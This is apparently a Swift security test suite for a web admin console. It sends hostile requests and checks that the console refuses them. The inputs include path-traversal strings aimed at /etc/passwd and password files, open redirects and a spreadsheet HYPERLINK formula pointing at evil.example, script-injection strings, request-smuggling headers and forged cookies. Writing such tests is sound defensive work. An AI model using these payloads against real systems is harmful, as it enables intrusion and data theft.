import Distributions
import Encoding
import Foundation
import HummingbirdCore
import LinkToken
import Logging
import NIOCore
import NIOHTTP1
import NIOPosix
import TestSupport
import Testing

@testable import AdminConsole

/// What a scanner, a forged page or a hostile file tries.
@Suite struct HostileRequestTests {
    static let hostile = "\"><script>alert(1)</script><img src=x onerror=alert(2)>'&"

    /// Whether the console still answers as it should.
    private func expectAlive(_ browser: SignedIn, _ what: String) async throws {
        #expect(try await browser.get("/").status == 200, "after \(what)")
    }

    @Test func `no path leads out of the pages, however it is written`() async throws {
        try await ConsoleHarness.run { (console) in
            let browser = try await console.signIn()
            let hash = try #require(
                String(decoding: console.directory.read("linkseal-data/console/passwords"), as: UTF8.self)
                    .split(separator: "$").last)
            for path in [
                "/../../etc/passwd", "/assets/../../../etc/passwd", "/assets/%2e%2e/%2e%2e/etc/passwd",
                "/assets/..%2f..%2fconsole%2fpasswords", "/assets/style.css/../../linkseal-data/console/passwords",
                "/contacts/uploads/..%2F..%2Fpasswords", "/contacts/uploads/%2fetc%2fpasswd",
                "/distributions/..%2f..%2fconsole", "/distributions/%00", "/distributions/..", "/jobs/..%2f..",
                "/jobs/%252e%252e", "/%c0%ae%c0%ae/etc/passwd", "/.git/config", "/keys/root.key", "/.env",
                "/linkseal-data/console/audit.jsonl", "/assets/", "/%", "/%zz", "/contacts/list?name=..%2F..%2Fetc",
                "//etc/passwd", "/;/keys", "/keys%2frotate", "/KEYS",
            ] {
                let answer = try await console.send(.GET, "/", cookie: browser.cookie)
                #expect(answer.status == 200)
                let raw = await RawExchange.answer(
                    port: console.port,
                    to:
                        "GET \(path) HTTP/1.1\r\nHost: 127.0.0.1:\(console.port)\r\nCookie: \(browser.cookie)\r\nConnection: close\r\n\r\n"
                )
                #expect(raw.hasPrefix("HTTP/1.1 404 ") || raw.hasPrefix("HTTP/1.1 400 "), "\(path): \(raw.prefix(60))")
                #expect(!raw.contains("root:") && !raw.contains(hash), "\(path)")
            }
        }
    }

    @Test func `only an address of the console itself is ever redirected to`() async throws {
        try await ConsoleHarness.run { (console) in
            for path in [
                "//evil.example/", "/%2f%2fevil.example", "/\\evil.example", "/sign-in?next=https://evil.example/",
                "/?return=//evil.example", "/keys?url=https://evil.example", "/https://evil.example/",
                "/sign-in?next=//evil.example", "/sign-in?next=/%5Cevil.example", "/sign-in?next=/%09/evil.example",
                "/sign-in?next=%2F%2Fevil.example", "/sign-in?next=%0d%0aLocation:%20https://evil.example",
                "/sign-in?next=javascript:alert(1)", "/sign-in?next=/x%23@evil.example",
            ] {
                let answer = await RawExchange.answer(
                    port: console.port,
                    to: "GET \(path) HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Forwarded-Host: evil.example\r\n"
                        + "X-Original-URL: https://evil.example\r\nForwarded: host=evil.example\r\n"
                        + "Connection: close\r\n\r\n")
                let head = answer.components(separatedBy: "\r\n\r\n")[0]
                #expect(head.hasPrefix("HTTP/1.1 303 ") || head.hasPrefix("HTTP/1.1 200 "), "\(path): \(head)")
                if let location = head.firstMatch(of: /(?i)\r\nlocation: (.*)/) {
                    #expect(location.1 == "/sign-in" || location.1.hasPrefix("/sign-in?next=%2F"), "\(path)")
                } else {
                    #expect(!answer.contains("evil.example"), "\(path)")
                }
            }
            let browser = try await console.signIn()
            for next in [
                "//evil.example", "https://evil.example/", "/\\evil.example", "/\t/evil.example", "/nothing-here",
                "evil.example", "/sign-in@evil.example", "/%2f%2fevil.example",
            ] {
                let page = try await console.send(.GET, "/sign-in")
                let cookie = "\(console.signInCookie)=" + (page.cookie(console.signInCookie) ?? "")
                let answer = try await console.send(
                    .POST, "/sign-in?next=//evil.example", cookie: cookie,
                    body: ConsoleHarness.form([
                        ("form-token", page.formToken), ("user", "admin"), ("password", ConsoleHarness.password),
                        ("next", next),
                    ]))
                #expect(answer.status == 303 && answer.location == "/", "\(next)")
                #expect(try await browser.get("/sign-in?next=" + next.percentEncoded).location == "/", "\(next)")
            }
        }
    }

    @Test(arguments: [
        ("another host in the target", "GET http://evil.example/ HTTP/1.1\r\nHost: 127.0.0.1\r\n", [303, 400, 421]),
        ("two hosts", "GET / HTTP/1.1\r\nHost: evil.example\r\nHost: 127.0.0.1\r\n", [400, 421]),
        ("no host", "GET / HTTP/1.1\r\n", [400, 421]),
        ("a user in the host", "GET / HTTP/1.1\r\nHost: 127.0.0.1@evil.example\r\n", [400, 421]),
        (
            "a length and chunks",
            "POST /sign-in HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n", [400]
        ),
        (
            "two lengths", "POST /sign-in HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 4\r\nContent-Length: 5\r\n",
            [400]
        ),
        ("a negative length", "POST /sign-in HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: -1\r\n", [400]),
        ("a zero byte", "GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX: a\0b\r\n", [400]),
        ("a space in a name", "GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX y: a\r\n", [400]),
        ("no HTTP", "\u{16}\u{3}\u{1}hello\r\n", [400]),
        ("a method of its own", "BREW / HTTP/1.1\r\nHost: 127.0.0.1\r\n", [400, 405]),
    ])
    func `a request that is none, or is meant for another, is refused once and the connection ends`(
        what: String, head: String, statuses: [Int]
    ) async throws {
        try await ConsoleHarness.run { (console) in
            let browser = try await console.signIn()
            let answer = await RawExchange.answer(
                port: console.port, to: head + "Connection: close\r\n\r\n" + "GET /audit HTTP/1.1\r\n\r\n")
            // One that answers nothing and closes has refused it too.
            let found = answer.matches(of: /HTTP\/1\.[01] (\d+)/).compactMap { Int($0.1) }
            #expect(found.count <= 1 && found.allSatisfy(statuses.contains), "\(what): \(found)")
            #expect(!answer.contains("evil.example"), "\(what)")
            try await expectAlive(browser, what)
        }
    }

    @Test func `what is too large is refused, and what is refused is not kept`() async throws {
        try await ConsoleHarness.run { (console) in
            let browser = try await console.signIn()
            let large = String(repeating: "a", count: 20_000)
            for head in [
                "GET /\(String(repeating: large, count: 10)) HTTP/1.1\r\nHost: 127.0.0.1\r\n",
                "GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX: \(large)\r\n",
                "GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n" + (0..<300).map { "X\($0): a\r\n" }.joined(),
                "GET / HTTP/1.1\r\nHost: 127.0.0.1:\(console.port)\r\nCookie: \(console.sessionCookie)=\(large)\r\n",
            ] {
                let answer = await RawExchange.answer(port: console.port, to: head + "Connection: close\r\n\r\n")
                let status = answer.firstMatch(of: /HTTP\/1\.[01] (\d+)/).flatMap { Int($0.1) }
                #expect(status == nil || (400..<500).contains(status!), "\(head.prefix(40)): \(status ?? 0)")
            }
            try await PageTests.importPeople(browser)
            let count = try console.workspace.distributions.all().count
            for name in [String(repeating: "n", count: 1001), "line\nbreak", "null\0byte", "\u{7F}", " "] {
                #expect(try await browser.generate(from: "People", named: name).status == 422)
                let list = try await browser.post("/contacts/dummies", [("name", name), ("count", "1")])
                #expect(list.status == 422)
            }
            #expect(try console.workspace.distributions.all().count == count)
            #expect(try console.workspace.contacts.lists().count == 1)
            // A promise of more than is sent is no reason to wait for ever, nor to keep what came.
            let broken = await RawExchange.answer(
                port: console.port,
                to: "POST /contacts/upload HTTP/1.1\r\nHost: 127.0.0.1:\(console.port)\r\nCookie: \(browser.cookie)\r\n"
                    + "Sec-Fetch-Site: same-origin\r\nContent-Type: multipart/form-data; boundary=XX\r\n"
                    + "Content-Length: 60\r\nConnection: close\r\n\r\n" + String(repeating: "x", count: 60))
            #expect(broken.hasPrefix("HTTP/1.1 400 "))
            let left = try FileManager.default.contentsOfDirectory(
                atPath: console.workspace.dataDirectory + "/console/uploads")
            #expect(left.isEmpty)
        }
    }

    @Test func `the method is the request's own, whatever else claims another`() async throws {
        try await ConsoleHarness.run { (console) in
            let browser = try await console.signIn()
            try await PageTests.importPeople(browser)
            let made = try await browser.distribution(named: "NPS")
            let path = "/distributions/\(made.id)"
            let sequence = try console.workspace.publishedBundle(console.workspace.keyring()).bundle.sequence
            for name in ["x-http-method-override", "x-http-method", "x-method-override"] {
                for target in [
                    path + "/delete?name=NPS&form-token=\(browser.formToken)",
                    path + "/end?at=now&_method=POST&form-token=\(browser.formToken)",
                    "/keys/publish?form-token=\(browser.formToken)", "/contacts/remove?name=People",
                ] {
                    let answer = try await console.send(
                        .GET, target, cookie: browser.cookie, headers: [(name, "POST")])
                    #expect([200, 405].contains(answer.status))
                }
            }
            for method in [HTTPMethod.PUT, .DELETE, .PATCH, .OPTIONS, .TRACE] {
                let answer = try await console.send(method, path + "/delete", cookie: browser.cookie)
                #expect(answer.status == 405, "\(method)")
                #expect(answer.headers.first(name: "allow") == "GET, POST")
                #expect(answer.headers["access-control-allow-origin"].isEmpty)
            }
            // A token in the address is none: addresses end up in logs.
            let inQuery = try await console.send(
                .POST, path + "/end?form-token=\(browser.formToken)&at=now", cookie: browser.cookie, body: "at=now")
            #expect(inQuery.status == 403)
            #expect(try console.workspace.distributions.distribution(made.id) == made)
            #expect(try console.workspace.contacts.lists().count == 1)
            #expect(try console.workspace.publishedBundle(console.workspace.keyring()).bundle.sequence == sequence)
        }
    }

    @Test func `no action is done for another site's page, as whatever it sends it`() async throws {
        try await ConsoleHarness.run { (console) in
            let browser = try await console.signIn()
            let body = "form-token=\(browser.formToken)&name=People&count=3"
            for route in console.console.routes where route.method == .post {
                let path = route.path.replacing(/\{[a-z]+\}/, with: "1")
                for headers in [
                    [("sec-fetch-site", "cross-site")], [("sec-fetch-site", "")],
                    [("sec-fetch-site", "cross-site"), ("content-type", "text/plain")],
                    [("origin", "null"), ("sec-fetch-site", "cross-site")],
                    [("origin", "http://127.0.0.1:1"), ("sec-fetch-site", "same-origin")],
                    [("origin", "http://127.0.0.1.evil.example")],
                    [("referer", "https://evil.example/"), ("sec-fetch-site", "same-site")],
                ] {
                    let answer = try await console.send(
                        .POST, path, cookie: browser.cookie, headers: headers, body: body)
                    #expect(answer.status == 403, "\(path) of \(headers) answered \(answer.status)")
                }
            }
            // What a form can send without asking first is not read as anything else.
            for type in ["text/plain", "application/json", "application/xml", ""] {
                let answer = try await browser.harness.send(
                    .POST, "/contacts/dummies", cookie: browser.cookie, headers: [("content-type", type)], body: body)
                #expect(answer.status == 400, "\(type)")
            }
            #expect(try console.workspace.contacts.lists().isEmpty)
        }
    }

    @Test func `a session is only what its own cookie carries`() async throws {
        try await ConsoleHarness.run { (console) in
            let browser = try await console.signIn()
            let name = console.sessionCookie
            let token = String(browser.cookie.dropFirst(name.count + 1))
            let flipped = (token.first == "A" ? "B" : "A") + token.dropFirst()
            for (path, cookie, headers) in [
                ("/?\(name)=\(token)", nil, []), ("/;\(name)=\(token)", nil, []),
                ("/", "L\(name.dropFirst())=\(token)", []), ("/", "\(name)=\(flipped)", []),
                ("/", "\(name)=\(token.dropLast())", []), ("/", "\(name)=\(token)A", []),
                ("/", "\(name)=", []), ("/", "__Host-\(name)=\(token)", []),
                ("/", nil, [("authorization", "Bearer \(token)")]), ("/", nil, [("x-\(name)", token)]),
            ] as [(String, String?, [(String, String)])] {
                let answer = try await console.send(.GET, path, cookie: cookie, headers: headers)
                #expect(answer.leadsToSignIn, "\(path) \(cookie ?? "") \(headers)")
            }
            #expect(try await browser.get("/").status == 200)
        }
    }

    @Test func `nothing that a query says becomes markup or a header`() async throws {
        try await ConsoleHarness.run { (console) in
            let browser = try await console.signIn()
            try await PageTests.importPeople(browser)
            let id = try await browser.distribution(named: "NPS").id.description
            let value = Self.hostile.percentEncoded
            let names = [
                "search", "sort", "direction", "page", "done", "status", "name", "list", "selection", "contact",
                "sample",
                "expires", "resume", "tool", "survey-url", "base-url", "data", "field", "published", "finished",
                "source", "shown-source", "where-field", "where-value", "not-in", "pasted", "survey-tool", "job",
                "session", "next",
            ]
            for route in console.console.routes where route.method == .get {
                let path = route.path.replacing("{distribution}", with: id).replacing("{serial}", with: "0")
                    .replacing("{upload}", with: value).replacing("{job}", with: value)
                for query in [
                    names.map { "\($0)=\(value)" }.joined(separator: "&"),
                    names.map { "\($0)=x%0d%0aSet-Cookie:%20a=b" }.joined(separator: "&"),
                    "list=People&search=\(value)&name=People",
                ] {
                    let answer = try await browser.get(path + "?" + query)
                    #expect(answer.status < 500, "\(path)?\(query)")
                    #expect(!answer.body.contains("<script>alert"), "\(path)")
                    #expect(!answer.body.contains("<img"), "\(path)")
                    #expect(answer.headers["set-cookie"].allSatisfy { $0.hasPrefix("linkseal-") }, "\(path)")
                    #expect(answer.headers.first(name: "cache-control") == "no-store", "\(path)")
                }
            }
        }
    }

    @Test func `a number as large or as small as can be said is as good as the nearest that there is`() async throws {
        try await ConsoleHarness.run { (console) in
            let browser = try await console.signIn()
            try await PageTests.importPeople(browser)
            let id = try await browser.distribution(named: "NPS").id.description
            for number in [Int.max, .max / 50 + 2, .min, 0] {
                for path in ["/", "/distributions/\(id)"] {
                    let answer = try await browser.get("\(path)?page=\(number)")
                    #expect(answer.status == 200, "\(path)?page=\(number)")
                    #expect(answer.body.contains(id), "\(path)?page=\(number)")
                    #expect(!answer.body.contains("rel=\"prev\""), "\(path)?page=\(number)")
                }
                let page = try await browser.get("/distributions/\(id)?page=\(number)")
                #expect(page.body.contains(">c1</a>"), "\(number)")
            }
        }
    }

    @Test func `what a list, its file and its contacts are called breaks no page, no header and no spreadsheet`()
        async throws
    {
        try await ConsoleHarness.run { (console) in
            let browser = try await console.signIn()
            let formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")"
            func quoted(_ text: String) -> String { "\"" + text.replacing("\"", with: "\"\"") + "\"" }
            let text =
                "Contact ID,First Name,Last Name,Email,\(quoted(Self.hostile)),\(quoted("@SUM(1)"))\n"
                + "c1,\(quoted(formula)),+A1,-2@x.example,@x,\(quoted("\t=1"))\n"
            let upload = try await browser.upload(text, named: "%0d%0aSet-Cookie: a=b<b>.csv")
            #expect(upload.headers["set-cookie"].isEmpty)
            let page = try await browser.get(upload.location).body
            #expect(!page.contains("<script>alert") && !page.contains("<img") && !page.contains("<b>"))
            let fields = (0..<4).map { ("column-\($0)", ["contactID", "firstName", "lastName", "email"][$0]) }
            let job = try await browser.post(
                upload.location, fields + [("name", "=1+1\(Self.hostile)"), ("action", "import")])
            for path in [job.location, "/contacts", "/generate", "/"] {
                let page = try await browser.get(path).body
                #expect(!page.contains("<script>alert") && !page.contains("<img"), "\(path)")
            }
            #expect(try await browser.finish(job.location).body.contains("1 contact is in the list"))
            let made = try await browser.generate(from: "=1+1\(Self.hostile)", named: "=2\"; filename=x.exe")
            #expect(try await browser.finish(made.location).body.contains("1 link is ready"))
            let id = try #require(try console.workspace.distributions.all().first?.id)
            for sheet in ["links", "statuses", "reminder"] {
                let path = "/distributions/\(id)/\(sheet).csv"
                let answer = sheet == "reminder" ? try await browser.post(path) : try await browser.get(path)
                #expect(answer.headers["content-disposition"].count == 1)
                let disposition = answer.headers.first(name: "content-disposition") ?? ""
                #expect(disposition.contains("filename=\"=2-_ filename=x.exe \(sheet).csv\""), "\(disposition)")
                #expect(answer.headers.first(name: "content-type")?.hasPrefix("text/csv") == true)
                let rows = answer.body.split(separator: "\r\n", omittingEmptySubsequences: true)
                try #require(rows.count == 2)
                for cell in rows.flatMap({ $0.replacing("\"", with: "").split(separator: ",") }) {
                    #expect(!"=+-@\t\r".contains(cell.first!), "\(sheet): \(cell)")
                }
            }
        }
    }

    /// As one is that the kernel accepted just before the console ended. SwiftNIO stops the process over a connection's
    /// channel that nobody runs.
    @Test func `a connection that nobody handles is closed, and does not stop the process`() async throws {
        let logger = Logger(label: "test") { _ in SwiftLogNoOpLogHandler() }
        let connections = ConsoleConnections(
            http: HTTP1Channel(responder: { (_, _, _) in Issue.record("it has no request") }))
        let listener = try await ServerBootstrap(group: MultiThreadedEventLoopGroup.singleton)
            .childChannelInitializer { connections.setup(channel: $0, logger: logger).map { (_) in } }
            .bind(host: "127.0.0.1", port: 0).get()
        let port = try #require(listener.localAddress?.port)
        #expect(await RawExchange.answer(port: port, to: "") == "")
        try await listener.close()
    }
}
